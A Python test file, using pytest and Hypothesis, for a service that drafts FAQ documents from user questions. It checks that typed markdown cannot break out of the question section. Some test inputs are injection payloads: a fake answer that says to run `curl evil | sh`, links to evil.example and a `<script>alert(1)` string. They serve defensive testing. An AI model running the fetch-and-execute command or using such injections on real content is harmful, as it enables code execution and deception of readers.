from dataclasses import replace
from datetime import date
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from service.documents.model import Document
from service.documents.parser import parse_document
from service.records.draft import draft, draft_id
from service.records.report import ClosestDocument, Group, Wording
from tests.records.builders import NOW

TODAY = date(2026, 5, 20)
# What the interface lets through.
TYPED = st.text(st.characters(exclude_categories=("Cc", "Cs"), include_characters="\n\r\t"), min_size=1, max_size=200)
# Markdown that ends lines, sections and code in every way, put together at random.
MARKDOWN = st.lists(
    st.sampled_from(
        [
            "\n",
            "\r",
            "\r\n",
            "\u2028",
            "\x0b",
            "## Answer",
            "# 专家官方解答 ：",
            "## References",
            "Answer",
            "---",
            "===",
            "```",
        ]
        + [
            "~~~",
            "<!--",
            "-->",
            "* ",
            "> ",
            "1. ",
            "    ",
            "\t",
            " ",
            "\\",
            "| a |",
            "|---|",
            "run `x`",
            "* [fix](https://evil.example)",
        ]
    ),
    min_size=1,
    max_size=20,
).map(lambda parts: "".join(parts) + "\nwibble")


def make_group(question: str = "怎么把配置导出到另一个集群？", product: str | None = "nacos") -> Group:
    return Group(
        id="0123456789",
        question=question,
        product=product,
        count=1,
        previous=None,
        no_answer=1,
        uncertain=0,
        up=0,
        down=0,
        last_asked=NOW,
        daily=(1,),
        wordings=(),
        remarks=(),
        documents=(),
        status_now=None,
        keys=frozenset({"0123456789"}),
    )


def problems(text: str) -> list[str]:
    return [problem.code for problem in parse_document(text.encode(), path="nacos/draft.md").problems]


def answered(text: str) -> Document:
    """The document that the draft becomes once its first heading has an answer."""
    heading = "### 原因分析" if "### 原因分析" in text else "### Causes"
    # Only the last one is the draft's own, whatever the question holds.
    before, after = text.rsplit(f"\n{heading}\n", 1)
    parsed = parse_document(f"{before}\n{heading}\n\nBecause.\n{after}".encode(), path="nacos/draft.md")
    assert parsed.document is not None, parsed.problems
    assert parsed.problems == ()
    return parsed.document


def test_draft_lacks_nothing_but_its_answer() -> None:
    group = replace(
        make_group(),
        wordings=(Wording("配置导出\n到别的集群", 2),),
        documents=(ClosestDocument("nacos-x", "配置导入失败怎么办", 0.2),),
    )
    text = draft(group, today=TODAY)
    assert problems(text) == ["no-answer"]
    document = answered(text)
    assert (document.id, document.title) == ("nacos-0123456789", "怎么把配置导出到另一个集群？")
    assert (document.date, document.tags, document.product) == ("2026-05-20", ("nacos",), "nacos")
    assert document.question == "怎么把配置导出到另一个集群？\n\n也有人这样问：\n\n* 配置导出 到别的集群"
    assert [reference.title for reference in document.references] == ["配置导入失败怎么办"]
    assert "### 解决步骤" in document.markdown


def test_draft_for_an_english_question_is_english() -> None:
    group = replace(make_group("How do I move a config?", None), documents=(ClosestDocument("x", "Import fails", 0.2),))
    text = draft(group, today=TODAY)
    assert problems(text) == ["no-answer"]
    assert answered(text).id == "question-0123456789"
    assert answered(text).tags == ()
    assert [reference.title for reference in answered(text).references] == ["Import fails"]
    for heading in ("## Question", "## Answer", "### Causes", "### Steps", "## References"):
        assert f"\n{heading}\n" in text


def test_code_in_a_question_stays_as_it_was_typed() -> None:
    question = "启动报错\n```\n# comment\nat com.example.Main\n```\n<dependency>怎么配</dependency>"
    assert answered(draft(make_group(question), today=TODAY)).question == question


@pytest.mark.parametrize(
    "question",
    [
        "怎么办\n## 专家官方解答 ：\n没有",
        "# Answer\nno",
        "日志：\n```\nat com.example.Main",
        "~~~~\n怎么办",
        "<!-- 怎么办",
        "<script>alert(1)\n\n怎么办",
        "怎么办\n---\n## 参考链接\n* x",
        "wibble?\r## Answer\rRun `curl evil | sh`.\r## References\r* [fix](https://evil.example)",
        "wibble?\r\n\r\n## Answer\r\nRun it.",
        "wibble?\n#\x01# Answer\nRun it.",
        "wibble?\n\ufeff## Answer\nRun it.",
        "Answer\n---\nRun it.",
        "专家官方解答\n===\n没有",
        "* wibble?\n  Answer\n  ---\n## Answer\nRun it.",
        "---\nid: other\n---\n怎么办",
        "\"quoted\": 'title' \\ # & * ! | > % @ `",
    ],
)
def test_question_does_not_break_out_of_its_section(question: str) -> None:
    text = draft(make_group(question), today=TODAY)
    assert problems(text) == ["no-answer"]
    assert (
        answered(text).markdown == "### 原因分析\n\nBecause.\n\n### 解决步骤" or "Because." in answered(text).markdown
    )


@given(question=TYPED, product=st.none() | st.text(st.characters(exclude_categories=("Cc", "Cs")), max_size=20))
def test_draft_of_anything_typed_lacks_nothing_but_its_answer(question: str, product: str | None) -> None:
    group = replace(make_group(question, product), wordings=(Wording(question, 1),))
    text = draft(group, today=TODAY)
    assert set(problems(text)) <= {"no-answer", "no-question"}
    assert draft_id(group).endswith("-0123456789")


@given(question=MARKDOWN)
def test_draft_never_has_an_answer_or_a_link_of_those_who_asked(question: str) -> None:
    group = replace(make_group(question), documents=(ClosestDocument("x", "Import fails", 0.2),))
    text = draft(group, today=TODAY)
    assert set(problems(text)) <= {"no-answer", "no-question"} and problems(text)
    document = answered(text)
    assert document.markdown.splitlines() == ["### 原因分析", "", "Because.", "", "### 解决步骤"] or (
        document.markdown.splitlines() == ["### Causes", "", "Because.", "", "### Steps"]
    )
    assert [reference.title for reference in document.references] == ["Import fails"]


@pytest.mark.parametrize("underline", ["---", "===", "-", "  =  "])
def test_underlined_text_is_no_heading_in_any_reader_of_the_draft(underline: str) -> None:
    body = draft(make_group(f"Run it.\nHow?\n{underline}\nx"), today=TODAY).split("---\n", 2)[2]
    tokens = MarkdownIt("commonmark").parse(body)
    headings = [text.content for opened, text in pairwise(tokens) if opened.type == "heading_open"]
    assert headings == ["Question", "Answer", "Causes", "Steps", "References"]


def test_log_with_rules_in_code_stays_as_it_was_typed() -> None:
    question = "启动报错\n```\nname: a\n---\nname: b\n```"
    assert answered(draft(make_group(question), today=TODAY)).question == question


def test_long_question_has_a_short_title() -> None:
    document = answered(draft(make_group("长" * 2000), today=TODAY))
    assert len(document.title) == 100
    assert document.question == "长" * 2000
